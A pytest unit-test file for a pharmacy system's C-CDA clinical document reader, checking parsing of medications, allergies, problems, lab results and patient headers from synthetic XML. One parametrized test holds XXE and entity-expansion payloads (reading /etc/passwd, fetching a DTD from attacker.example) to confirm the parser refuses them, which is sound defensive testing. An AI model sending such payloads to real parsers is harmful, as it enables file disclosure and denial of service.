"""Unit tests for the C-CDA reader (pure, no database)."""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone

import pytest

from pharmacy.interop.ccda import parse_ts, read_ccda
from pharmacy.interop.clinical import ClinicalParseError


@pytest.fixture(autouse=True)
def _plain_http():
    """Shadow tests/conftest.py's autouse Django-settings fixture: these tests are pure (-p no:django)."""
    yield


T = "2.16.840.1.113883.10.20.22"


def _med_section(entries: str, text: str = "", tpl: str = f"{T}.2.1.1", code: str = "10160-0") -> str:
    return f"""<section><templateId root="{tpl}"/><code code="{code}" codeSystem="2.16.840.1.113883.6.1"/>
      <title>Medications</title><text>{text}</text>{entries}</section>"""


def _sa(material_code: str, *, negated: bool = False, extra: str = "", text: str = "") -> str:
    neg = ' negationInd="true"' if negated else ""
    return f"""<entry><substanceAdministration classCode="SBADM" moodCode="EVN"{neg}>
      <templateId root="{T}.4.16"/>{text}<statusCode code="active"/>{extra}
      <consumable><manufacturedProduct><templateId root="{T}.4.23"/><manufacturedMaterial>{material_code}
      </manufacturedMaterial></manufacturedProduct></consumable></substanceAdministration></entry>"""


METFORMIN = (
    '<code code="861007" codeSystem="2.16.840.1.113883.6.88" '
    'displayName="metformin hydrochloride 500 MG Oral Tablet"/>'
)


def _document(body: str, *, doc_tpl: str = f"{T}.1.2", doc_code: str = "34133-9", header: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xmlns:sdtc="urn:hl7-org:sdtc">
  <realmCode code="US"/>
  <templateId root="{T}.1.1" extension="2015-08-01"/>
  <templateId root="{doc_tpl}" extension="2015-08-01"/>
  <id root="2.16.840.1.113883.19.5" extension="DOC-42"/>
  <code code="{doc_code}" codeSystem="2.16.840.1.113883.6.1"/>
  <effectiveTime value="20240305143000-0500"/>
  <recordTarget><patientRole>
    <id root="2.16.840.1.113883.19.5.99999.2" extension="MRN-77" assigningAuthorityName="General Hospital"/>
    <id root="2.16.840.1.113883.4.1" extension="111-22-3333"/>
    <addr use="HP"><streetAddressLine>1 Main St</streetAddressLine><city>Springfield</city>
      <state>IL</state><postalCode>62701</postalCode></addr>
    <telecom use="HP" value="tel:+1(555)555-0100"/>
    <patient>
      <name use="L"><given>Maria</given><given>Luisa</given><family>Garcia</family></name>
      <administrativeGenderCode code="F" codeSystem="2.16.840.1.113883.5.1"/>
      <birthTime value="19470812"/>
      <sdtc:deceasedInd value="false"/>
    </patient>
  </patientRole></recordTarget>
  <custodian><assignedCustodian><representedCustodianOrganization>
    <name>General Hospital</name></representedCustodianOrganization></assignedCustodian></custodian>
  {header}
  <component><structuredBody>{body}</structuredBody></component>
</ClinicalDocument>"""


# ---------------------------------------------------------------------------------------------
# Safety and structure
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        b'<?xml version="1.0"?><!DOCTYPE section [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<section><title>&xxe;</title></section>",
        b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b"<section>&lol2;</section>",
        b'<!DOCTYPE section SYSTEM "http://attacker.example/evil.dtd"><section/>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><section xsi:type="x">&e;</section>',
    ],
)
def test_dtd_and_entities_are_refused(payload):
    with pytest.raises(ClinicalParseError, match="DTD|entit"):
        read_ccda(payload)


def test_not_well_formed_and_not_cda():
    with pytest.raises(ClinicalParseError, match="not well-formed"):
        read_ccda(b"<section><title>broken</section>")
    with pytest.raises(ClinicalParseError, match="not a C-CDA document or section: root element <Message>"):
        read_ccda(b'<Message xmlns="http://www.ncpdp.org/schema/SCRIPT"><Header/></Message>')
    with pytest.raises(ClinicalParseError, match="empty"):
        read_ccda(b"   ")


def test_fragment_with_undeclared_prefixes_is_read():
    fragment = _med_section(
        _sa(
            METFORMIN,
            extra='<effectiveTime xsi:type="IVL_TS"><low value="20230101"/>'
            '</effectiveTime><sdtc:foo value="1"/>',
        )
    )
    record = read_ccda(fragment.encode())
    assert record.message_type == "Fragment"
    assert [m.code for m in record.medications] == ["861007"]
    assert record.medications[0].start_date == date(2023, 1, 1)
    assert any("xsi" in w and "sdtc" in w for w in record.warnings)


def test_unrecognised_fragment_reads_empty_with_warning():
    record = read_ccda(
        b'<section><code code="11369-6" codeSystem="2.16.840.1.113883.6.1"/><entry/></section>'
    )
    assert record.medications == [] and record.allergies == []
    assert any("11369-6" in w for w in record.warnings)


# ---------------------------------------------------------------------------------------------
# Medications
# ---------------------------------------------------------------------------------------------


def test_narrative_reference_resolution_for_uncoded_drug():
    text = (
        '<table><tbody><tr ID="row1"><td><content ID="med1">Grandma\'s <b>water</b> pill</content></td>'
        "<td>every morning</td></tr></tbody></table>"
    )
    material = '<code nullFlavor="UNK"><originalText><reference value="#med1"/></originalText></code>'
    record = read_ccda(_med_section(_sa(material, text='<text><reference value="#row1"/></text>'), text))
    med = record.medications[0]
    assert med.text == "Grandma's water pill"
    assert med.name == "Grandma's water pill"
    assert med.code == "" and med.code_system == ""
    assert med.frequency == "qam"  # "every morning", from the row text the entry points at


def test_structured_medication_fields():
    extra = f"""
      <effectiveTime xsi:type="IVL_TS"><low value="20240101"/><high value="20240630"/></effectiveTime>
      <effectiveTime xsi:type="PIVL_TS" institutionSpecified="true" operator="A"><period value="12" unit="h"/>
      </effectiveTime>
      <routeCode code="C38288" codeSystem="2.16.840.1.113883.3.26.1.1" displayName="ORAL"/>
      <doseQuantity value="1"/>
      <administrationUnitCode code="C48542" displayName="Tablet"/>
      <entryRelationship typeCode="REFR"><supply classCode="SPLY" moodCode="INT">
        <templateId root="{T}.4.17"/><repeatNumber value="4"/><quantity value="60"/>
        <expectedUseTime><width value="30" unit="d"/></expectedUseTime>
        <author><assignedAuthor><assignedPerson><name><given>Ann</given><family>Smith</family></name>
        </assignedPerson></assignedAuthor></author>
      </supply></entryRelationship>"""
    fragment = _med_section(_sa(METFORMIN, extra=extra)).replace("<section>", f'<section xmlns:xsi="{XSI}">')
    med = read_ccda(fragment).medications[0]
    assert (med.code, med.code_system) == ("861007", "rxnorm")
    assert med.strength == "500 mg"
    assert med.dose == "1 Tablet"
    assert med.route == "oral"
    assert med.frequency == "bid"
    assert (med.start_date, med.end_date) == (date(2024, 1, 1), date(2024, 6, 30))
    assert med.refills == 3  # repeatNumber counts the first fill
    assert med.quantity == "60" and med.days_supply == 30
    assert med.prescriber == "Ann Smith"
    assert med.status == "active" and med.negated is False and med.as_needed is False
    assert med.source == "10160-0"


XSI = "http://www.w3.org/2001/XMLSchema-instance"


@pytest.mark.parametrize(
    ("timing", "expected"),
    [
        ('<effectiveTime xsi:type="PIVL_TS"><period value="8" unit="h"/></effectiveTime>', "q8h"),
        (
            '<effectiveTime xsi:type="PIVL_TS" institutionSpecified="true"><period value="8" unit="h"/>'
            "</effectiveTime>",
            "tid",
        ),
        ('<effectiveTime xsi:type="PIVL_TS"><period value="1" unit="d"/></effectiveTime>', "daily"),
        ('<effectiveTime xsi:type="PIVL_TS"><period value="1" unit="wk"/></effectiveTime>', "weekly"),
        ('<effectiveTime xsi:type="EIVL_TS"><event code="HS"/></effectiveTime>', "qhs"),
    ],
)
def test_timing(timing, expected):
    fragment = _med_section(_sa(METFORMIN, extra=timing)).replace("<section>", f'<section xmlns:xsi="{XSI}">')
    assert read_ccda(fragment).medications[0].frequency == expected


def test_precondition_means_prn():
    extra = (
        '<precondition typeCode="PRCN"><criterion><templateId root="2.16.840.1.113883.10.20.22.4.25"/>'
        '<value code="56018004" codeSystem="2.16.840.1.113883.6.96" displayName="Wheezing"/>'
        "</criterion></precondition>"
    )
    assert read_ccda(_med_section(_sa(METFORMIN, extra=extra))).medications[0].as_needed is True


def test_negated_medication_is_kept_and_flagged():
    record = read_ccda(_med_section(_sa(METFORMIN, negated=True) + _sa(METFORMIN)))
    assert [m.negated for m in record.medications] == [True, False]


def test_null_flavor_means_absent():
    extra = '<routeCode nullFlavor="NA"/><doseQuantity nullFlavor="UNK"/><effectiveTime nullFlavor="UNK"/>'
    record = read_ccda(_med_section(_sa('<code nullFlavor="UNK"/>', extra=extra)))
    # an entry with nothing but nullFlavors is a placeholder, not a medication: the list is unknown
    assert record.medications == [] and record.medications_unknown is True
    assert any("placeholder" in w for w in record.warnings)
    named = read_ccda(_med_section(_sa('<code nullFlavor="UNK"><originalText>Aspirin</originalText></code>',
                                       extra=extra))).medications[0]
    assert (named.code, named.route, named.dose, named.start_date, named.name) == ("", "", "", None, "Aspirin")


def test_ndc_code_and_translation_fallback():
    ndc = '<code code="0093-7214-01" codeSystem="2.16.840.1.113883.6.69" displayName="Metformin 500mg tab"/>'
    assert read_ccda(_med_section(_sa(ndc))).medications[0].code_system == "ndc"
    translated = (
        '<code nullFlavor="OTH"><originalText>metformin 500</originalText>'
        '<translation code="860975" codeSystem="2.16.840.1.113883.6.88" displayName="metformin ER"/>'
        "</code>"
    )
    med = read_ccda(_med_section(_sa(translated))).medications[0]
    assert (med.code, med.code_system, med.text) == ("860975", "rxnorm", "metformin 500")


def test_sections_found_by_template_or_code_not_position_and_immunizations_ignored():
    immunizations = f"""<component><section><templateId root="{T}.2.2.1"/>
      <code code="11369-6" codeSystem="2.16.840.1.113883.6.1"/><text/>
      <entry><substanceAdministration classCode="SBADM" moodCode="EVN"><templateId root="{T}.4.52"/>
      <consumable><manufacturedProduct><manufacturedMaterial>
      <code code="140" codeSystem="2.16.840.1.113883.12.292" displayName="Influenza vaccine"/>
      </manufacturedMaterial></manufacturedProduct></consumable></substanceAdministration></entry>
      </section></component>"""
    # medications recognised by code only (no templateId), placed after another section
    meds_by_code = _med_section(_sa(METFORMIN), tpl="9.9.9")
    # discharge medications recognised by template only (odd code), wrapped in a Discharge Medication act
    discharge = f"""<section><templateId root="{T}.2.11.1"/><code code="X-LOCAL"/><text/>
      <entry><act classCode="ACT" moodCode="EVN"><templateId root="{T}.4.35"/>
      <entryRelationship typeCode="SUBJ">{
        _sa(
            '<code code="197361" codeSystem="2.16.840.1.113883.6.88"'
            ' displayName="amlodipine 5 MG Oral Tablet"/>'
        )
        .replace("<entry>", "")
        .replace("</entry>", "")
    }
      </entryRelationship></act></entry></section>"""
    body = immunizations + f"<component>{meds_by_code}</component><component>{discharge}</component>"
    record = read_ccda(_document(body, doc_tpl=f"{T}.1.8", doc_code="18842-5"))
    assert record.message_type == "DischargeSummary" and record.is_discharge
    assert [(m.code, m.source) for m in record.medications] == [("861007", "10160-0"), ("197361", "X-LOCAL")]


# ---------------------------------------------------------------------------------------------
# Allergies
# ---------------------------------------------------------------------------------------------


def _allergy_section(observation: str, section_attrs: str = "") -> str:
    return f"""<section{section_attrs}><templateId root="{T}.2.6.1"/>
      <code code="48765-2" codeSystem="2.16.840.1.113883.6.1"/><text><content ID="a1">Penicillin</content>
      <content ID="r1">Hives</content></text>
      <entry><act classCode="ACT" moodCode="EVN"><templateId root="{T}.4.30"/><statusCode code="active"/>
      <entryRelationship typeCode="SUBJ">{observation}</entryRelationship></act></entry></section>"""


def _allergy_obs(
    allergen: str, *, negated: bool = False, value_code: str = "416098002", extra: str = ""
) -> str:
    neg = ' negationInd="true"' if negated else ""
    return f"""<observation classCode="OBS" moodCode="EVN"{neg}><templateId root="{T}.4.7"/>
      <code code="ASSERTION" codeSystem="2.16.840.1.113883.5.4"/><statusCode code="completed"/>
      <value xsi:type="CD" code="{value_code}" codeSystem="2.16.840.1.113883.6.96"/>
      <participant typeCode="CSM"><participantRole classCode="MANU"><playingEntity classCode="MMAT">
      {allergen}</playingEntity></participantRole></participant>{extra}</observation>"""


def test_allergy_with_reaction_severity_and_narrative_allergen():
    reaction = f"""<entryRelationship typeCode="MFST" inversionInd="true"><observation classCode="OBS"
      moodCode="EVN"><templateId root="{T}.4.9"/><value xsi:type="CD" code="247472004"
      codeSystem="2.16.840.1.113883.6.96"><originalText><reference value="#r1"/></originalText></value>
      <entryRelationship typeCode="SUBJ" inversionInd="true"><observation classCode="OBS" moodCode="EVN">
      <templateId root="{T}.4.8"/><value xsi:type="CD" code="6736007" codeSystem="2.16.840.1.113883.6.96"
      displayName="Moderate"/></observation></entryRelationship></observation></entryRelationship>"""
    allergen = '<code nullFlavor="OTH"><originalText><reference value="#a1"/></originalText></code>'
    record = read_ccda(_allergy_section(_allergy_obs(allergen, extra=reaction)))
    a = record.allergies[0]
    assert (a.substance, a.code, a.category) == ("Penicillin", "", "drug")
    assert a.reaction == ["Hives"] and a.severity == "moderate" and a.status == "active"
    assert record.no_known_allergies is False


@pytest.mark.parametrize(
    ("value_code", "allergen"),
    [
        ("419199007", '<code nullFlavor="NA"/>'),  # no known allergies
        ("416098002", '<code nullFlavor="NA"/>'),  # no known drug allergies
        ("419199007", '<code code="105590001" codeSystem="2.16.840.1.113883.6.96" displayName="Substance"/>'),
        ("419199007", ""),
    ],
)
def test_negated_allergy_without_allergen_is_nka(value_code, allergen):
    record = read_ccda(_allergy_section(_allergy_obs(allergen, negated=True, value_code=value_code)))
    assert record.no_known_allergies is True
    assert record.allergies == []


def test_nka_situation_code_without_negation():
    record = read_ccda(_allergy_section(_allergy_obs('<code nullFlavor="NA"/>', value_code="716186003")))
    assert record.no_known_allergies is True and record.allergies == []


def test_negated_specific_allergen_is_a_negated_entry_not_nka():
    peanut = '<code code="762952008" codeSystem="2.16.840.1.113883.6.96" displayName="Peanut"/>'
    record = read_ccda(_allergy_section(_allergy_obs(peanut, negated=True, value_code="414285001")))
    assert record.no_known_allergies is False
    a = record.allergies[0]
    assert (a.substance, a.code, a.code_system, a.category, a.negated) == (
        "Peanut",
        "762952008",
        "snomed",
        "food",
        True,
    )


def test_section_no_information_is_neither_nka_nor_entry():
    obs = _allergy_obs('<code code="70618" codeSystem="2.16.840.1.113883.6.88" displayName="Penicillin"/>')
    record = read_ccda(_allergy_section(obs, ' nullFlavor="NI"'))
    assert record.no_known_allergies is False and record.allergies == []
    assert any("no information" in w for w in record.warnings)
    # an observation without allergen and with a null value: no information either
    null_obs = _allergy_obs('<code nullFlavor="UNK"/>').replace(
        '<value xsi:type="CD" code="416098002" codeSystem="2.16.840.1.113883.6.96"/>',
        '<value nullFlavor="NI"/>',
    )
    record = read_ccda(_allergy_section(null_obs))
    assert record.no_known_allergies is False and record.allergies == []


# ---------------------------------------------------------------------------------------------
# Documents: header, problems, results
# ---------------------------------------------------------------------------------------------


def test_full_document_header_problems_results():
    encounter = """<componentOf><encompassingEncounter><id root="1.2.3" extension="ENC-9"/>
      <code code="IMP" codeSystem="2.16.840.1.113883.5.4"/>
      <effectiveTime><low value="20240301"/><high value="202403051200-0500"/></effectiveTime>
      <location><healthCareFacility><location><name>North Wing</name></location>
      </healthCareFacility></location>
      </encompassingEncounter></componentOf>"""
    problems = f"""<component><section><templateId root="{T}.2.5.1"/><code code="11450-4"
      codeSystem="2.16.840.1.113883.6.1"/><text/>
      <entry><act classCode="ACT" moodCode="EVN"><templateId root="{T}.4.3"/><statusCode code="active"/>
      <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN">
      <templateId root="{T}.4.4"/>
      <effectiveTime><low value="20150610"/></effectiveTime>
      <value xsi:type="CD" code="44054006" codeSystem="2.16.840.1.113883.6.96" displayName="Diabetes type 2">
      <translation code="E11.9" codeSystem="2.16.840.1.113883.6.90" displayName="Type 2 DM"/></value>
      </observation></entryRelationship></act></entry>
      <entry><act classCode="ACT" moodCode="EVN"><templateId root="{T}.4.3"/>
      <entryRelationship typeCode="SUBJ"><observation classCode="OBS" moodCode="EVN" negationInd="true">
      <templateId root="{T}.4.4"/><value xsi:type="CD" code="55607006" codeSystem="2.16.840.1.113883.6.96"/>
      </observation></entryRelationship></act></entry></section></component>"""
    results = f"""<component><section><templateId root="{T}.2.3.1"/><code code="30954-2"
      codeSystem="2.16.840.1.113883.6.1"/><text/>
      <entry><organizer classCode="BATTERY" moodCode="EVN"><templateId root="{T}.4.1"/>
      <component><observation classCode="OBS" moodCode="EVN"><templateId root="{T}.4.2"/>
      <code code="2160-0" codeSystem="2.16.840.1.113883.6.1" displayName="Creatinine"/>
      <effectiveTime value="20240302"/><value xsi:type="PQ" value="1.4" unit="mg/dL"/>
      <interpretationCode code="H" codeSystem="2.16.840.1.113883.5.83"/>
      <referenceRange><observationRange><value xsi:type="IVL_PQ"><low value="0.6" unit="mg/dL"/>
      <high value="1.2" unit="mg/dL"/></value></observationRange></referenceRange>
      </observation></component></organizer></entry></section></component>"""
    record = read_ccda(_document(problems + results, header=encounter).encode())
    assert record.format == "ccda" and record.message_type == "CCD"
    assert record.control_id == "DOC-42" and record.sender == "General Hospital"
    assert record.version == "C-CDA R2.1"
    assert record.sent_at == datetime(2024, 3, 5, 14, 30, tzinfo=timezone(timedelta(hours=-5)))
    p = record.patient
    assert (p.family, p.given, p.birth_date, p.sex) == ("Garcia", "Maria Luisa", date(1947, 8, 12), "F")
    assert [(i.value, i.type, i.assigning_authority) for i in p.identifiers] == [
        ("MRN-77", "", "General Hospital"),
        ("111-22-3333", "SS", "2.16.840.1.113883.4.1"),
    ]
    assert p.phone == "+1(555)555-0100" and p.address == "1 Main St, Springfield, IL 62701"
    enc = record.encounter
    assert (enc.patient_class, enc.visit_number, enc.facility) == ("I", "ENC-9", "North Wing")
    assert enc.admit_at == date(2024, 3, 1)
    assert [(pr.code, pr.code_system, pr.onset, pr.status) for pr in record.problems] == [
        ("E11.9", "icd10cm", date(2015, 6, 10), "active")
    ]
    lab = record.lab_results[0]
    assert (lab.code, lab.code_system, lab.value, lab.unit, lab.abnormal_flag) == (
        "2160-0",
        "loinc",
        "1.4",
        "mg/dL",
        "H",
    )
    assert lab.reference_range == "0.6-1.2 mg/dL" and lab.observed_at == date(2024, 3, 2)


@pytest.mark.parametrize(
    ("tpl", "code", "expected"),
    [
        (f"{T}.1.2", "34133-9", "CCD"),
        (f"{T}.1.8", "18842-5", "DischargeSummary"),
        ("9.9.9", "18842-5", "DischargeSummary"),
        (f"{T}.1.13", "18761-7", "TransferSummary"),
        (f"{T}.1.3", "34117-2", "HistoryAndPhysical"),
        ("9.9.9", "11506-3", "ClinicalDocument"),
    ],
)
def test_document_types(tpl, code, expected):
    assert read_ccda(_document("", doc_tpl=tpl, doc_code=code)).message_type == expected


def test_str_input_with_encoding_declaration_and_bytes_with_bom():
    doc = _document("").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace("Garcia", "García")
    assert read_ccda(doc).patient.family == "García"
    assert read_ccda(doc.encode("latin-1")).patient.family == "García"
    assert read_ccda(b"\xef\xbb\xbf" + _document("").encode()).patient.family == "Garcia"


def test_parse_ts():
    assert parse_ts("20180401") == date(2018, 4, 1)
    assert parse_ts("20140103102500-0500") == datetime(
        2014, 1, 3, 10, 25, tzinfo=timezone(timedelta(hours=-5))
    )
    assert parse_ts("200902271300-0500").hour == 13
    assert parse_ts("2006") is None and parse_ts("") is None and parse_ts("garbage") is None
